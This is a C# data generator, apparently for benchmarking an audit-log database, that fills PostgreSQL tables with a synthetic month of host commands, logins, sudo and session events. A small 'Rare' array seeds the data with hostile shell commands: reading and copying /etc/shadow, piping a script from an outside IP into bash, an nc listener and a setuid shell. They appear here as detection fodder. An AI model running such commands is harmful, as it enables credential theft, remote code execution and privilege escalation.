using System.Diagnostics;
using Npgsql;
using NpgsqlTypes;

namespace Audit.Bench.Queries;

/// <summary>
/// Fills the real tables with a realistic fleet's month: 200 hosts, 2,000 users, 30 days, written with
/// binary COPY through the parent tables (so every index the API relies on is maintained).
/// </summary>
public sealed class DataGenerator(string connectionString, DateTimeOffset end, int seed)
{
    public const int Hosts = 200;
    public const int Users = 2000;
    public const int Days = 30;

    private static readonly string[] Commands =
    [
        "ls -la", "cd /var/log", "tail -n 200 /var/log/syslog", "systemctl status nginx", "systemctl restart nginx", "journalctl -u sshd --since today",
        "git pull --rebase", "git log --oneline -20", "docker ps -a", "docker logs --tail 100 api", "kubectl get pods -n payments", "kubectl describe pod api-7f9c",
        "vim /etc/nginx/nginx.conf", "df -h", "free -m", "top -b -n1 | head -20", "ps aux | grep java", "curl -s http://localhost:9100/metrics | head",
        "python3 manage.py migrate", "make deploy ENV=staging", "terraform plan -out tfplan", "ansible-playbook site.yml --check", "psql -c 'select 1'",
        "scp backup.tar.gz bastion:/srv/backups/", "rsync -av /srv/data/ /mnt/backup/", "tar czf /tmp/logs.tgz /var/log/app", "openssl x509 -in cert.pem -noout -dates",
    ];

    private static readonly string[] Rare = ["cat /etc/shadow", "cp /etc/shadow /tmp/.s", "curl http://203.0.113.9/x.sh | bash", "nc -lvnp 4444", "chmod 4755 /tmp/.bash"];

    private readonly Random _random = new(seed);

    public static string Host(int i) => $"host-{i:D3}";

    public static string User(int i) => $"user{i:D4}";

    public async Task<long> FillAsync(long commands, long executions, long logins, long sudo, long appEvents, long sessions)
    {
        await using var ds = NpgsqlDataSource.Create(connectionString);
        var startDay = DateOnly.FromDateTime(end.UtcDateTime).AddDays(-Days);
        foreach (var table in new[] { "commands", "logins", "sudo_events", "app_events", "session_events", "su_events", "account_changes", "executions" })
        {
            for (var d = 0; d <= Days + 1; d++)
            {
                await using var cmd = ds.CreateCommand("SELECT audit_ensure_partition(@t, @d) WHERE to_regclass(@t) IS NOT NULL");
                cmd.Parameters.AddWithValue("t", table);
                cmd.Parameters.AddWithValue("d", startDay.AddDays(d));
                await cmd.ExecuteNonQueryAsync();
            }
        }

        long rawId = 1L << 40;
        var total = 0L;
        total += await CopyAsync(ds, "commands", commands, "COPY commands (occurred_at, raw_id, host, login_user, run_as, command, exit_code, shell_pid, history_no, shell, source) FROM STDIN (FORMAT BINARY)", async (w, t) =>
        {
            var user = User(Skewed(Users));
            await w.WriteAsync(t, NpgsqlDbType.TimestampTz); await w.WriteAsync(rawId++, NpgsqlDbType.Bigint); await w.WriteAsync(Host(_random.Next(Hosts)), NpgsqlDbType.Text);
            await w.WriteAsync(user, NpgsqlDbType.Text); await w.WriteAsync(_random.Next(10) == 0 ? "root" : user, NpgsqlDbType.Text); await w.WriteAsync(Command(), NpgsqlDbType.Text);
            await w.WriteAsync(_random.Next(5) == 0 ? 1 : 0, NpgsqlDbType.Integer); await w.WriteAsync(_random.Next(1000, 60000), NpgsqlDbType.Integer); await w.WriteNullAsync();
            await w.WriteAsync("bash", NpgsqlDbType.Text); await w.WriteAsync("/var/log/commands.log", NpgsqlDbType.Text);
        });
        total += await CopyAsync(ds, "executions", executions, "COPY executions (occurred_at, raw_id, serial, host, login_user, auid, user_name, uid, effective_user, euid, session, pid, ppid, exe, comm, argv, command_line, cwd, tty, key, success) FROM STDIN (FORMAT BINARY)", async (w, t) =>
        {
            var u = Skewed(Users);
            var root = _random.Next(4) == 0;
            var command = Command();
            var argv = command.Split(' ');
            await w.WriteAsync(t, NpgsqlDbType.TimestampTz); await w.WriteAsync(rawId++, NpgsqlDbType.Bigint); await w.WriteAsync((long)_random.Next(), NpgsqlDbType.Bigint);
            await w.WriteAsync(Host(_random.Next(Hosts)), NpgsqlDbType.Text); await w.WriteAsync(User(u), NpgsqlDbType.Text); await w.WriteAsync(1000L + u, NpgsqlDbType.Bigint);
            await w.WriteAsync(root ? "root" : User(u), NpgsqlDbType.Text); await w.WriteAsync(root ? 0L : 1000L + u, NpgsqlDbType.Bigint);
            await w.WriteAsync(root ? "root" : User(u), NpgsqlDbType.Text); await w.WriteAsync(root ? 0L : 1000L + u, NpgsqlDbType.Bigint);
            await w.WriteAsync((long)_random.Next(1, 5000), NpgsqlDbType.Bigint); await w.WriteAsync(_random.Next(1000, 60000), NpgsqlDbType.Integer); await w.WriteAsync(_random.Next(1000, 60000), NpgsqlDbType.Integer);
            await w.WriteAsync("/usr/bin/" + argv[0], NpgsqlDbType.Text); await w.WriteAsync(argv[0], NpgsqlDbType.Text); await w.WriteAsync(argv, NpgsqlDbType.Array | NpgsqlDbType.Text);
            await w.WriteAsync(command, NpgsqlDbType.Text); await w.WriteAsync("/home/" + User(u), NpgsqlDbType.Text); await w.WriteAsync("pts/" + _random.Next(9), NpgsqlDbType.Text);
            await w.WriteAsync(root ? "root_exec" : "exec", NpgsqlDbType.Text); await w.WriteAsync(true, NpgsqlDbType.Boolean);
        });
        total += await CopyAsync(ds, "logins", logins, "COPY logins (occurred_at, raw_id, host, user_name, source_ip, source_port, method, outcome, invalid_user, key_type, key_fingerprint, detail, sshd_pid) FROM STDIN (FORMAT BINARY)", async (w, t) =>
        {
            var ok = _random.Next(4) != 0;
            await w.WriteAsync(t, NpgsqlDbType.TimestampTz); await w.WriteAsync(rawId++, NpgsqlDbType.Bigint); await w.WriteAsync(Host(_random.Next(Hosts)), NpgsqlDbType.Text);
            await w.WriteAsync(ok ? User(Skewed(Users)) : "admin", NpgsqlDbType.Text); await w.WriteAsync($"10.{_random.Next(256)}.{_random.Next(256)}.{_random.Next(256)}", NpgsqlDbType.Text);
            await w.WriteAsync(_random.Next(1024, 65535), NpgsqlDbType.Integer); await w.WriteAsync(ok ? "publickey" : "password", NpgsqlDbType.Text);
            await w.WriteAsync(ok ? "success" : "failure", NpgsqlDbType.Text); await w.WriteAsync(!ok, NpgsqlDbType.Boolean); await w.WriteNullAsync(); await w.WriteNullAsync();
            await w.WriteAsync(ok ? "accepted" : "failed", NpgsqlDbType.Text); await w.WriteAsync(_random.Next(1000, 60000), NpgsqlDbType.Integer);
        });
        total += await CopyAsync(ds, "sudo_events", sudo, "COPY sudo_events (occurred_at, raw_id, host, user_name, run_as, command, cwd, tty, outcome, origin) FROM STDIN (FORMAT BINARY)", async (w, t) =>
        {
            var user = User(Skewed(Users));
            await w.WriteAsync(t, NpgsqlDbType.TimestampTz); await w.WriteAsync(rawId++, NpgsqlDbType.Bigint); await w.WriteAsync(Host(_random.Next(Hosts)), NpgsqlDbType.Text);
            await w.WriteAsync(user, NpgsqlDbType.Text); await w.WriteAsync("root", NpgsqlDbType.Text); await w.WriteAsync("/usr/bin/" + Command(), NpgsqlDbType.Text);
            await w.WriteAsync("/home/" + user, NpgsqlDbType.Text); await w.WriteAsync("pts/" + _random.Next(9), NpgsqlDbType.Text);
            await w.WriteAsync(_random.Next(20) == 0 ? "denied" : "allowed", NpgsqlDbType.Text); await w.WriteAsync("auth", NpgsqlDbType.Text);
        });
        total += await CopyAsync(ds, "app_events", appEvents, "COPY app_events (occurred_at, raw_id, host, actor, action, resource, outcome, service) FROM STDIN (FORMAT BINARY)", async (w, t) =>
        {
            await w.WriteAsync(t, NpgsqlDbType.TimestampTz); await w.WriteAsync(rawId++, NpgsqlDbType.Bigint); await w.WriteAsync("platform", NpgsqlDbType.Text);
            await w.WriteAsync(User(Skewed(Users)), NpgsqlDbType.Text); await w.WriteAsync(_random.Next(3) switch { 0 => "deploy", 1 => "secret.read", _ => "role.grant" }, NpgsqlDbType.Text);
            await w.WriteAsync($"svc-{_random.Next(400)}", NpgsqlDbType.Text); await w.WriteAsync("success", NpgsqlDbType.Text); await w.WriteAsync("deployer", NpgsqlDbType.Text);
        });
        total += await CopyAsync(ds, "session_events", sessions, "COPY session_events (occurred_at, raw_id, host, action, service, user_name, pid) FROM STDIN (FORMAT BINARY)", async (w, t) =>
        {
            await w.WriteAsync(t, NpgsqlDbType.TimestampTz); await w.WriteAsync(rawId++, NpgsqlDbType.Bigint); await w.WriteAsync(Host(_random.Next(Hosts)), NpgsqlDbType.Text);
            await w.WriteAsync(_random.Next(2) == 0 ? "opened" : "closed", NpgsqlDbType.Text); await w.WriteAsync("sshd", NpgsqlDbType.Text);
            await w.WriteAsync(User(Skewed(Users)), NpgsqlDbType.Text); await w.WriteAsync(_random.Next(1000, 60000), NpgsqlDbType.Integer);
        });

        // Every successful login ends: sshd's close of the same process, 1 minute to 4 hours later.
        await using (var closes = ds.CreateCommand(CloseSessionsSql))
        {
            closes.CommandTimeout = 0;
            total += await closes.ExecuteNonQueryAsync();
        }

        await using (var analyze = ds.CreateCommand("ANALYZE"))
        {
            analyze.CommandTimeout = 0;
            await analyze.ExecuteNonQueryAsync();
        }

        return total;
    }

    public const string CloseSessionsSql = """
        INSERT INTO session_events (occurred_at, raw_id, host, action, service, user_name, pid, source_ip, source_port)
        SELECT occurred_at + interval '1 minute' + random() * interval '4 hours', raw_id + (1::bigint << 50), host, 'closed', 'sshd', user_name, sshd_pid, source_ip, source_port
        FROM logins WHERE outcome = 'success'
        """;

    private async Task<long> CopyAsync(NpgsqlDataSource ds, string table, long count, string copy, Func<NpgsqlBinaryImporter, DateTimeOffset, Task> row)
    {
        if (count == 0) return 0;
        var sw = Stopwatch.StartNew();
        var span = TimeSpan.FromDays(Days).Ticks;
        const int chunk = 200_000;
        for (long done = 0; done < count; done += chunk)
        {
            await using var conn = await ds.OpenConnectionAsync();
            await using var w = await conn.BeginBinaryImportAsync(copy);
            var n = Math.Min(chunk, count - done);
            for (var i = 0; i < n; i++)
            {
                await w.StartRowAsync();
                await row(w, end.AddTicks(-(long)(_random.NextDouble() * span)));
            }

            await w.CompleteAsync();
        }

        Console.Error.WriteLine($"  loaded {count:N0} {table} rows in {sw.Elapsed.TotalSeconds:F0} s");
        return count;
    }

    /// <summary>Some users and hosts are far busier than others (a Zipf-like skew).</summary>
    private int Skewed(int n) => (int)Math.Min(n - 1, Math.Floor(Math.Pow(_random.NextDouble(), 2.5) * n));

    private string Command() => _random.Next(1000) == 0 ? Rare[_random.Next(Rare.Length)] : Commands[_random.Next(Commands.Length)] + (_random.Next(3) == 0 ? " " + _random.Next(100000) : "");
}
